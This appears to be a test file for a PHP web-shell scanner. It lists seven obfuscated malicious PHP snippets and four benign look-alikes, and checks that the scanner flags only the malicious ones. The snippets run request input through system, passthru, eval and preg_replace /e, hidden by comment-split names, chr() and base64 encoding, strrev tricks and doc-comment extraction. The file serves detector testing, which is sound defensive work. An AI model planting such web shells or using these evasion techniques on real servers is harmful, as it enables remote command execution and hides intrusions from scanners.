import { describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { createScanner } from './scanner.js';
import { normalizeStrings } from './php-strings.js';

// Session 39: the techniques of held-out set H23's misses (bench/redteam/README-corpus-s39.md), written again by us as
// pages of our own, with look-alikes an application may hold. Nothing here is copied from a sample.
const scanner = createScanner({});
const scan = (src: string, path: string) => scanner.scanBuffer(Buffer.from(src, 'utf8'), path);
const why = (r: { score: number; findings: readonly { rule: string; score: number }[] }) => `${r.score}: ${r.findings.map((f) => `${f.rule} ${f.score}`).join(', ')}`;
const b64 = (s: string) => Buffer.from(s).toString('base64');
/** Each character as chr() of the number written in `base` (16: 0x.., 8: 0.., 2: 0b..). */
const chrs = (s: string, base: 2 | 8 | 10 | 16) =>
  [...s].map((c) => {
    const n = c.charCodeAt(0);
    return `chr(${base === 16 ? `0x${n.toString(16)}` : base === 8 ? `0${n.toString(8)}` : base === 2 ? `0b${n.toString(2)}` : n})`;
  }).join('.');

const MALICIOUS: [string, string, string][] = [
  [
    'a name joined with comments between its pieces, called with a comment before its bracket, given a superglobal named in pieces inside ${ }',
    '/var/www/html/c1.php',
    `<?php\n$k = "ys"./*x*/"st"./*x*/"em";\n$k = "s"./*x*/$k;\n$k/*x*/($/*x*/{"_G"./*x*/"ET"}["q"]);\n`,
  ],
  [
    'a superglobal named in ${ } written with a space after the $',
    '/var/www/html/c2.php',
    `<?php\n$f = "pass"."thru";\n$f($ {"_RE"."QUEST"}["q"]);\n`,
  ],
  [
    'preg_replace /e whose pattern is chr() pieces around a variable, the replacement read through a reference to $_POST',
    '/var/www/html/c3.php',
    `<?php\n$in = &$_POST;\n$tag = md5($in['k'] ?? '');\nif ($tag === 'ffffffffffffffffffffffffffffffff') {\n  preg_replace(chr(47) . $tag . chr(47) . chr(101), $in['run'], $tag);\n}\n`,
  ],
  [
    'preg_replace /e with its replacement a literal base64-decoded by a function taking it by reference',
    '/var/www/html/c4.php',
    `<?php\n$code = "${b64(`eval(base64_decode("${b64("if (isset($_POST['z'])) { @eval($_POST['z']); }")}"));`)}";\nfunction clean(&$v) { $v = base64_decode($v); }\nclean($code);\npreg_replace('/page/e', '@' . $code, 'page');\n`,
  ],
  [
    'function names written as bare words to strrev and base64_decode (PHP before 8 reads an undefined constant as its name)',
    '/var/www/html/c5.php',
    `<?php\n$r = @strrev(ecalper_gerp);\n$d = @strrev(edoced_46esab);\necho @$r($d(${b64('/zz/e').replace(/=+$/, '')}), $_POST[q], zz);\n`,
  ],
  [
    'preg_replace /e with its pattern and its code given as chr() of hexadecimal numbers',
    '/var/www/html/c6.php',
    `<?php\npreg_replace(${chrs('/abc/e', 16)}, ${chrs('@eval($_POST[k]);', 16)}, 'abc');\n`,
  ],
  [
    'a function name and its argument cut out of a class doc comment with substr and strpos, then called',
    '/var/www/html/c7.php',
    `<?php\n/**\n * sys\n * tem($_GET\n * ["q"]);\n */\nclass Notes { }\n$ref = new ReflectionClass('Notes');\n$doc = $ref->getDocComment();\n$name = substr($doc, strpos($doc, 'sy'), 3);\n$name .= substr($doc, strpos($doc, 'te'), 3);\n$arg = substr($doc, strpos($doc, '$_'), 5);\n$name($arg);\n`,
  ],
];

const LOOKALIKES: [string, string, string][] = [
  [
    'an annotation reader taking names out of doc comments with substr and strpos, calling a handler it was given',
    '/var/www/html/lib/Annotations.php',
    `<?php\nclass Annotations {\n  public function read($class, $handler) {\n    $ref = new ReflectionClass($class);\n    $doc = $ref->getDocComment();\n    $tag = substr($doc, strpos($doc, '@'), 20);\n    $tag .= substr($doc, strpos($doc, '(') + 1, 10);\n    $rest = substr($doc, strpos($doc, ')'));\n    return call_user_func($handler, $tag, $rest);\n  }\n}\n`,
  ],
  [
    'a template helper running preg_replace /e over its own text with a pattern made of a delimiter, a quoted word and a modifier',
    '/var/www/html/lib/tpl.php',
    `<?php\nfunction tpl($text, $word) {\n  $q = preg_quote($word, '/');\n  return preg_replace('/' . $q . '/e', 'strtoupper("$0")', $text);\n}\n`,
  ],
  [
    'constants in capitals given to base64_decode and strrev',
    '/var/www/html/lib/keys.php',
    `<?php\ndefine('SITE_KEY', 'c2l0ZWtleQ');\n$k = base64_decode(SITE_KEY);\n$r = strrev(PHP_EOL);\necho htmlspecialchars($k . $r);\n`,
  ],
  [
    'a page of short base64 settings that decode to text, not code',
    '/var/www/html/lib/settings.php',
    `<?php\n$banner = "${b64('Welcome to our shop. Orders placed before noon are shipped the same day; returns are free within thirty days of delivery.')}";\necho base64_decode($banner);\n`,
  ],
];

describe('scan: held-out set H23\'s techniques (session 39)', () => {
  for (const [name, path, src] of MALICIOUS) {
    it(`malicious: ${name}`, () => {
      const r = scan(src, path);
      assert.equal(r.verdict, 'malicious', why(r));
    });
  }
  it('ran every malicious form', () => assert.equal(MALICIOUS.length, 7));
  for (const [name, path, src] of LOOKALIKES) {
    it(`not malicious: ${name}`, () => {
      const r = scan(src, path);
      assert.notEqual(r.verdict, 'malicious', why(r));
    });
  }
  it('ran every look-alike', () => assert.equal(LOOKALIKES.length, 4));
  it('reads chr() of hexadecimal, binary and octal numbers as PHP does (0165 is octal)', () => {
    assert.equal(normalizeStrings("x(chr(0x73).chr(0b1111001).chr(0163).chr(0o164).chr(101).chr(0x6c + 1))"), "x('system')");
  });
  it('reads a bare word given to strrev as its name, but not a constant in capitals', () => {
    assert.equal(normalizeStrings('$f = strrev(metsys);'), "$f = 'system';");
    assert.equal(normalizeStrings('$f = strrev(PHP_EOL);'), undefined);
  });
});
